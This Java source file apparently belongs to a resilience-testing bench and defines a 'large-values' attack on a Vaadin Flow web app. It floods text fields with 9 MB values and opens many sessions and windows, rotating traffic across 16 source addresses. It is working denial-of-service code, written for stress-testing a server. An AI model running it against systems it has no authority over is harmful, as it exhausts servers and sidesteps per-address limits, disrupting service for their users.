package dev.kernvraag.attack;

import dev.kernvraag.bench.FlowClient;
import java.io.IOException;
import java.net.http.HttpClient;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Visitors without a seat who put nine megabytes each into the code field, with and without saying how long it is, while
 * others open one session after the other, and one window after the other in a session.
 *
 * <p>Arguments: seconds (50).
 */
public final class LargeValues implements Attack {
    private static final int NETWORKS = 16;
    private static final int TYPING = 6;
    private static final int OPENING = 3;
    private static final int WINDOWS = 50;
    private static final String VALUE = "A".repeat(9 * 1024 * 1024);

    private final List<HttpClient> clients = new ArrayList<>();
    private final AtomicInteger turn = new AtomicInteger();

    private LargeValues() {
        for (int network = 0; network < NETWORKS; network++) {
            clients.add(HttpClient.newBuilder()
                    .localAddress(Target.address(network))
                    .build());
        }
    }

    /** Attacks. */
    public static void main(String[] arguments) throws IOException, InterruptedException {
        Trial.of(new LargeValues(), arguments);
    }

    @Override
    public String name() {
        return "large-values";
    }

    @Override
    public void run(Target target) throws InterruptedException {
        List<Thread> visitors = new ArrayList<>();
        for (int i = 0; i < TYPING; i++) {
            boolean chunked = i % 2 == 1;
            visitors.add(Thread.ofVirtual().start(() -> goOn(target, () -> type(target, chunked))));
        }
        for (int i = 0; i < OPENING; i++) {
            visitors.add(Thread.ofVirtual().start(() -> goOn(target, () -> open(target))));
        }
        for (Thread visitor : visitors) {
            visitor.join();
        }
    }

    private interface Deed {
        void once() throws IOException, InterruptedException;
    }

    private static void goOn(Target target, Deed deed) {
        while (!target.isOver()) {
            try {
                deed.once();
            } catch (IOException e) {
                target.count("refused or broken off");
                target.pause(20);
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void type(Target target, boolean chunked) throws IOException, InterruptedException {
        FlowClient visitor = visitor(target);
        visitor.load("");
        if (chunked) {
            visitor.chunked();
        }
        visitor.typeAndPress("vaadin-text-field", VALUE);
        target.count("values of 9 MB taken in");
    }

    private void open(Target target) throws IOException, InterruptedException {
        FlowClient visitor = visitor(target);
        int windows = turn.get() % 4 == 0 ? WINDOWS : 1;
        for (int window = 0; window < windows && !target.isOver(); window++) {
            visitor.load("");
            target.count(window == 0 ? "sessions opened" : "further windows opened");
        }
    }

    private FlowClient visitor(Target target) {
        return new FlowClient(target.port(), clients.get(turn.incrementAndGet() % NETWORKS));
    }
}
